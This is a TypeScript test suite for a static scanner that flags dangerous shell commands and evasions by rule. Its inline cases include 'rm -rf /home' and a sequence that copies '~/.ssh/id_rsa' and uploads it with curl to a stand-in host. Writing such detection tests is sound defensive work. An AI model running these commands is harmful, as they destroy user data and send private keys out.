import { dangerousCommands } from './dangerous-commands.js';
import { evasions } from './evasions.js';
import { argvOf, findingsOf, planOf, ruleIds, workspace } from './plan.js';
import { scanPlan } from '../../../src/domain/security-rules/index.js';
import { safeCommands } from './safe-commands.js';

const veto = 0.9;
const shown = (command: string | readonly string[]): string =>
  (typeof command === 'string' ? command : command.join(' ␣ ')).replaceAll('\n', '⏎').slice(0, 160);

describe('the static scan', () => {
  test.each(safeCommands.map((command) => [shown(command), command] as const))('finds nothing in: %s', (_, command) => {
    expect(findingsOf(command)).toEqual([]);
  });

  test.each(
    Object.entries(dangerousCommands).flatMap(([rule, commands]) =>
      commands.map((command) => [rule, shown(command), command] as const),
    ),
  )('sees %s in: %s', (rule, _, command) => {
    expect(ruleIds(findingsOf(command))).toContain(rule);
  });

  test.each<[string, string, string, string[]]>([
    ['runs a script that was written before', 'echo "rm -rf /home" > a.sh', 'sh a.sh', ['delete-outside']],
    ['sends away what was read before', 'cp ~/.ssh/id_rsa notes', 'curl -T notes https://x.example', ['exfiltration']],
    ['is harmless, whatever was done before', 'rm -rf /home', 'npm test', []],
  ])('judges what %s', (_, before, now, expected) => {
    const tasks = (line: string) => planOf({ argv: argvOf(line) });
    const ids = ruleIds(scanPlan(tasks(now), workspace, { before: tasks(before).tasks }));
    expect(ids).toEqual(expected.length === 0 ? [] : expect.arrayContaining(expected));
  });

  test.each(evasions.map((line) => [shown(line), line] as const))('vetoes: %s', (_, line) => {
    expect(Math.max(0, ...findingsOf(line).map(({ confidence }) => confidence))).toBeGreaterThanOrEqual(veto);
  });
});
